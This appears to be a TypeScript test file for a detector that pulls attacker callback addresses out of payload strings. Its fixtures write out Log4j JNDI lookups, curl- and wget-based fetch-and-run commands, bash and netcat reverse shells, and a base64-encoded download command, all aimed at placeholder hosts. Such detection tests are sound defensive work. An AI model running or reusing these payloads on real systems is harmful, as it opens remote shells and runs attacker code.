// biome-ignore-all lint/suspicious/noTemplateCurlyInString: lookups of Log4j look like placeholders
import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { calledAddresses } from './called-addresses.ts'

test('where payloads send their victims', () => {
  const cases: readonly (readonly [string, readonly string[]])[] = [
    ['${jndi:ldap://203.0.113.5:1389/Exploit}', ['203.0.113.5:1389']],
    ['${jndi:${lower:r}mi://evil.example/x}', ['evil.example:1099']],
    ['cmd=curl+-s+http://203.0.113.5:8000/a.sh|sh', ['http://203.0.113.5:8000/a.sh']],
    ['wget 203.0.113.5/x -O /tmp/x', ['http://203.0.113.5:80/x']],
    ['bash -i >& /dev/tcp/203.0.113.5/4444 0>&1', ['203.0.113.5:4444']],
    ['nc 203.0.113.5 9001 -e /bin/sh', ['203.0.113.5:9001']],
    [`/Basic/Command/Base64/${btoa('curl http://203.0.113.5/i.sh | bash')}`, ['http://203.0.113.5/i.sh']],
    ['http%3a%2f%2f203.0.113.5%2fx', ['http://203.0.113.5/x']],
  ]
  for (const [text, addresses] of cases) assert.deepEqual(calledAddresses(text), addresses, text)
})

test('near misses: versions, words, and much of it', () => {
  assert.deepEqual(calledAddresses('curl/7.88.1 jndi ldap 1.2.3.4'), [])
  assert.equal(calledAddresses(Array.from({ length: 100 }, (_, i) => `http://h${i}.example/`).join(' ')).length, 8)
})

test('any text: no exception', () => {
  fc.assert(fc.property(fc.string({ unit: 'binary' }), text => void calledAddresses(text)))
})
